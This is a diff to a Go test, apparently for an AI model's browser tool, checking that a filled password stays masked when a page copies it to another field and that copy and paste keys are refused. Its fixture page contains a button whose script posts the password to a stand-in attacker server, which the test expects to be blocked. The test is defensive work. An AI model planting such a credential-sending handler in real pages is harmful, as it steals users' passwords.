@@ -392,7 +392,7 @@ func TestDirectFillTypesTheValueAndGuardsIt(t *testing.T) {
 	ctx, p, _ := openPage(t)
 	evil := newSite(t, nil)
 	s := newSite(t, map[string]string{"/": `<form id=f onsubmit="event.preventDefault(); fetch('/login', {method: 'POST', body: '<xml>' + p.value + '</xml>'})"><input type=password id=p aria-label=Password><button>Log in</button></form>
-<button onclick="fetch('` + evil.URL + `/steal', {method: 'POST', mode: 'no-cors', body: p.value})">Steal</button><button onclick="p.type = 'text'">Show</button>`})
+<button onclick="fetch('` + evil.URL + `/steal', {method: 'POST', mode: 'no-cors', body: p.value})">Steal</button><button onclick="p.type = 'text'">Show</button><input id=copy aria-label=Copy><button onclick="copy.value = p.value">Move</button>`})
 	obs := open(ctx, t, p, s.URL+"/")
 	fill := login("password", hunter, s.URL)
 	fill.Direct = true
@@ -410,6 +410,21 @@ func TestDirectFillTypesTheValueAndGuardsIt(t *testing.T) {
 	require.NoError(t, err)
 	require.Greater(t, masked(t, before), 1000)
 	require.Greater(t, masked(t, after), 1000)
+
+	// The page moves the value to another field, and the model edits it there.
+	require.NoError(t, p.Click(ctx, find(t, obs, "button", "Move").Ref))
+	moved := find(t, observe(ctx, t, p), "textbox", "Copy")
+	require.Equal(t, "[secret]", moved.Value)
+	require.NoError(t, p.Click(ctx, moved.Ref))
+	for _, key := range []string{"End", "Backspace", "Home", "x"} {
+		require.NoError(t, p.Press(ctx, key))
+	}
+	require.Equal(t, "[secret]", find(t, observe(ctx, t, p), "textbox", "Copy").Value)
+	for _, key := range []string{"Control+c", "Control+Shift+X", "Meta+v", "Control+z"} {
+		require.ErrorContains(t, p.Press(ctx, key), "page.key_refused", key)
+	}
+	require.NoError(t, p.Type(ctx, moved.Ref, "my own text"))
+	require.Equal(t, "my own text", find(t, observe(ctx, t, p), "textbox", "Copy").Value)
 
 	require.NoError(t, p.Click(ctx, find(t, obs, "button", "Steal").Ref))
 	require.Contains(t, settle(ctx, t, p).Outline, "note: blocked: ")
